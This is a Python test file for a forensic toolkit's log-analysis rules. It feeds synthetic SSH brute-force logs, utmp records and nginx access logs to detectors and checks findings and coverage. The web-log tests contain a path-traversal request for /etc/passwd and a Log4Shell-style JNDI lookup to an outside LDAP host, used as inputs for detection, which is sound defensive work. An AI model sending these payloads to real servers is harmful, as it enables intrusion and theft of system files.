"""Findings, timeline and coverage from the log files of a tree."""

from __future__ import annotations

import struct
from datetime import UTC, datetime

import pytest

from forensic_toolkit.readers import log_stream, system_logs
from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Results
from forensic_toolkit.rules import log_rules
from forensic_toolkit.times import now
from tests.toolkit.fake_tree import Builder

WRITTEN = datetime(2026, 3, 1, 10, 20, tzinfo=UTC)


def utmp(kind: int, user: str) -> bytes:
    """One record of glibc's struct utmp on x86-64 (utmp(5), bits/utmp.h): 384 bytes."""
    head = struct.pack("<hxxi32s4s32s256s", kind, 42, b"pts/0", b"ts/0", user.encode(), b"198.51.100.7")
    return head + struct.pack("<hhiii16s20x", 0, 0, 0, 1_767_323_045, 250_000, bytes(16))


def read(builder: Builder) -> tuple[list[str], Coverage, Results]:
    """Titles of the log-in findings, the coverage and the results of a tree."""
    results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
    results.counts["system_volume"] = 1
    tree, coverage = builder.tree(), Coverage()
    logs = system_logs.read(tree, coverage=coverage, results=results)
    found = [item.title for item in log_rules.log_ins(tree, logs=logs, coverage=coverage, results=results)]
    return found, coverage, results


def test_guessed_passwords_records_and_their_coverage() -> None:
    lines = [
        f"Mar  1 10:0{number}:00 web sshd[{number}]: Failed password for root from 203.0.113.9 port {number} ssh2"
        for number in range(6)
    ]
    lines.append("Mar  1 10:20:00 web sshd[9]: Accepted password for root from 203.0.113.9 port 9 ssh2")
    builder = Builder().add("/var/log/auth.log", "\n".join(lines).encode(), born=WRITTEN)
    builder.add("/var/log/wtmp", utmp(7, "admin") + utmp(2, "reboot") + b"cut").add("/var/log/btmp", utmp(6, "root"))
    found, coverage, results = read(builder)
    assert found == ["Password guessed: root from 203.0.113.9 after 6 failures", "Log-in of root from 203.0.113.9"]
    assert {item.path: (item.lines, item.parsed) for item in coverage.artifacts} == {
        "/var/log/auth.log": (7, 7),
        "/var/log/wtmp": (2, 2),
        "/var/log/btmp": (1, 1),
    }
    (cut,) = [item.problems for item in coverage.artifacts if item.problems]
    assert cut == ["3 bytes at its end are an incomplete record"]
    assert (results.counts["logins"], results.counts["failed_logins"]) == (1, 6)
    assert "Log-in: admin from 198.51.100.7 on pts/0" in {event.what for event in results.events}


def test_guessing_from_many_addresses_hides_no_log_in() -> None:
    """On a public host the guessing that is spread over many addresses is every day's (shapes of logpai/loghub, OpenSSH_2k.log)."""
    lines = [
        f"Mar  1 10:{number:02d}:00 web sshd[{number}]: Failed password for root from 203.0.113.{number} port {number} ssh2"
        for number in range(1, 15)
    ]
    lines.append("Mar  1 10:20:00 web sshd[99]: Accepted publickey for mara from 192.0.2.9 port 9 ssh2")
    lines.append("Mar  1 10:21:00 web sshd[98]: Accepted publickey for root from 203.0.113.3 port 9 ssh2")
    builder = (
        Builder()
        .add("/var/log/auth.log", "\n".join(lines).encode(), born=WRITTEN)
        .add("/var/log/wtmp", utmp(7, "admin"))
    )
    found, _coverage, results = read(builder)
    assert found == [
        "Password guessing spread over 14 addresses", "Log-in of mara from 192.0.2.9", "Log-in of root from 203.0.113.3",
    ]  # fmt: skip
    whats = {event.what for event in results.events}
    assert {"Log-in: admin from 198.51.100.7 on pts/0", "Log-in accepted: mara from 192.0.2.9 (publickey)"} <= whats
    assert (results.counts["logins"], results.counts["failed_logins"]) == (2, 14)


def test_a_system_without_any_log_of_log_ins_is_a_gap() -> None:
    found, _coverage, results = read(Builder())
    assert found == [] and [what for what, _why in results.gaps] == ["log-ins"]


def test_thousands_of_similar_web_requests_are_limited() -> None:
    line = '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /?q=../../../etc/passwd HTTP/1.1" 404 5 "-" "x"\n'
    builder = Builder().add("/var/log/nginx/access.log", line.encode() * 500, born=WRITTEN)
    results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
    coverage = Coverage()
    found = [f for _, rule in log_rules.web(builder.tree(), coverage=coverage, results=results) for f in rule()]
    assert [(item.title, item.count) for item in found] == [("Path out of the web root from 198.51.100.7", 500)]
    assert [(item.lines, item.parsed) for item in coverage.artifacts] == [(500, 500)]


def test_an_endless_web_log_keeps_its_newest_entries_and_every_attack(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(log_rules, "MAX_ENTRIES", 10)
    monkeypatch.setattr(log_stream, "BLOCK", 500)
    rows = [f'203.0.113.9 - - [30/Nov/2026:05:00:{n:02} +0000] "GET /{n} HTTP/1.1" 200 5 "-" "x"' for n in range(50)]
    rows[3] = rows[3].replace("/3 ", "/?x=${jndi:ldap://203.0.113.9/a} ")
    tree = Builder().add("/var/log/nginx/access.log", ("\n".join(rows) + "\n").encode()).tree()
    results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
    coverage = Coverage()
    found = [f for _, rule in log_rules.web(tree, coverage=coverage, results=results) for f in rule()]
    assert [f.technique for f in found] == ["T1190"]
    assert (coverage.artifacts[0].lines, coverage.artifacts[0].parsed) == (50, 50)
    assert len(results.events) == 11
    assert min(e.time.second for e in results.events if not e.notable) == 40
    assert results.notes == [
        (
            "timeline of /var/log/nginx/access.log",
            "50 entries; the timeline has the newest 10 and every notable one, rules saw all",
        )
    ]
